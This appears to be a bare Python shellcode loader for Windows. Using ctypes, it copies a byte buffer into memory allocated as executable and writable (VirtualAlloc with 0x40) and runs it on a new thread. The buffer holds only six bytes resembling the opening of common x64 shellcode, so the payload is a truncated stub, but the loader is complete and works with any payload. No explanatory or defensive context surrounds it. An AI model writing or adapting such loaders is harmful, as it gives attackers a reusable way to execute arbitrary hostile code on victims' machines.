import ctypes

code = bytearray(b'\xfc\x48\x83') + bytearray(b'\xe4\xf0\xe8')
k = ctypes.windll.kernel32
k.VirtualAlloc.restype = ctypes.c_void_p
p = k.VirtualAlloc(None, len(code), 0x3000, 0x40)
ctypes.memmove(p, (ctypes.c_char * len(code)).from_buffer(code), len(code))
h = k.CreateThread(None, 0, ctypes.c_void_p(p), None, 0, None)
k.WaitForSingleObject(h, -1)
